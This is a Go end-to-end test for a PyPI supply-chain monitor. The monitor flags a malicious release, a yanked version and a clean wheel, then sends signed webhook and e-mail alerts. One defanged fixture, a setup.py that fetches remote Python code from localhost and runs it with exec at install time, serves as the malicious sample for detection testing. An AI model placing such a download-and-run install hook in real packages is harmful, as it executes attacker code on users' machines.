package monitor

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"net/http"
	"sort"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/safeguard-dev/safeguard/internal/notify"
	"github.com/safeguard-dev/safeguard/internal/notify/notifytest"
	"github.com/safeguard-dev/safeguard/internal/pypi"
	"github.com/safeguard-dev/safeguard/internal/pypi/pypitest"
	"github.com/safeguard-dev/safeguard/internal/store"
)

// stagedSetup is a defanged download-and-run at install time: it fetches
// from a closed port on this machine.
const stagedSetup = `import urllib.request
from setuptools import setup
exec(urllib.request.urlopen("http://127.0.0.1:9/stage2.py").read())
setup(name="x", version="2.0")
`

func targz(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		tw.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
		tw.Write([]byte(files[n]))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

func wheel(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for n, body := range files {
		w, _ := zw.Create(n)
		w.Write([]byte(body))
	}
	zw.Close()
	return buf.Bytes()
}

// The monitor end to end in one process: the fake PyPI publishes a
// malicious release inside a watched range, a clean wheel of a project no
// one watches, and a yank of a pinned version; the webhook receives
// exactly those two alerts, signed, and the e-mail arrives.
func TestMonitorEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	st := openStore(t)
	fake := pypitest.Start()
	defer fake.Close()
	fake.Publish("y", "1.0", "y-1.0.tar.gz", targz(t, map[string]string{"y-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: y\nVersion: 1.0\n", "y-1.0/setup.py": "from setuptools import setup\nsetup()\n"}))

	secret := notify.GenerateSecret()
	hook := notifytest.NewWebhookReceiver(t, secret)
	mail := notifytest.NewSMTPReceiver(t, notifytest.SMTPOptions{})
	p := store.Project{Name: "app", Options: store.ProjectOptions{
		Notify:        []string{hook.Spec(), mail.Spec("safeguard@example.test", "team@example.test")},
		WebhookSecret: secret,
	}}
	ds := []store.Dependency{
		{Name: "x", Direct: true, Scope: "main", File: "requirements.txt", Line: 1},
		{Name: "y", Version: "1.0", Direct: true, Scope: "main", File: "requirements.txt", Line: 2},
	}
	if alerts, err := Register(ctx, st, nil, p, ds); err != nil || len(alerts) != 0 {
		t.Fatalf("registration raised %v (%v), want nothing", alerts, err)
	}

	client := pypi.New(fake.URL(), http.DefaultClient)
	f := &Follower{Store: st, Journal: client, Poll: 50 * time.Millisecond, Since: -1}
	w := &Worker{Store: st, Index: client, ScanAll: true, ID: "w1", Idle: 20 * time.Millisecond}
	s := &Sender{Store: st, Notify: notify.Config{HTTP: http.DefaultClient, Timeout: 5 * time.Second, TLS: mail.ClientTLS()}, Idle: 20 * time.Millisecond}
	for _, run := range []func(context.Context) error{f.Run, w.Run, s.Run} {
		go run(ctx)
	}
	waitFor(t, func() bool { _, ok, _ := st.Cursor(ctx, CursorName); return ok })

	fake.Publish("x", "2.0", "x-2.0.tar.gz", targz(t, map[string]string{"x-2.0/PKG-INFO": "Metadata-Version: 2.1\nName: x\nVersion: 2.0\n", "x-2.0/setup.py": stagedSetup}))
	fake.Publish("tidy", "1.0", "tidy-1.0-py3-none-any.whl", wheel(t, map[string]string{"tidy/__init__.py": "VALUE = 1\n",
		"tidy-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\n", "tidy-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}))
	fake.Yank("y", "1.0", "broken")

	got, err := hook.Wait(ctx, 2)
	if err != nil {
		t.Fatalf("webhook: %v (got %d)", err, len(hook.Deliveries()))
	}
	var kinds []string
	for _, d := range got {
		if d.Err != "" {
			t.Errorf("delivery refused by the receiver: %s", d.Err)
		}
		var body struct {
			Type string         `json:"type"`
			Data notify.Message `json:"data"`
		}
		if err := json.Unmarshal(d.Body, &body); err != nil {
			t.Fatal(err)
		}
		kinds = append(kinds, body.Type+" "+body.Data.Package+" "+body.Data.Version)
	}
	sort.Strings(kinds)
	if d := cmp.Diff([]string{"alert.malicious x 2.0", "alert.yanked y 1.0"}, kinds); d != "" {
		t.Errorf("webhook alerts (-want +got):\n%s", d)
	}
	if _, err := mail.Wait(ctx, 2); err != nil {
		t.Errorf("e-mail: %v", err)
	}
	// Nothing more arrives: the clean wheel raised nothing.
	waitFor(t, func() bool {
		v, err := st.ProjectVerdicts(ctx, "tidy", 0)
		return err == nil && len(v) == 1 && v[0].Verdict == "clean"
	})
	time.Sleep(200 * time.Millisecond)
	if n := len(hook.Deliveries()); n != 2 {
		t.Errorf("%d webhook deliveries, want 2", n)
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatal("timed out")
}
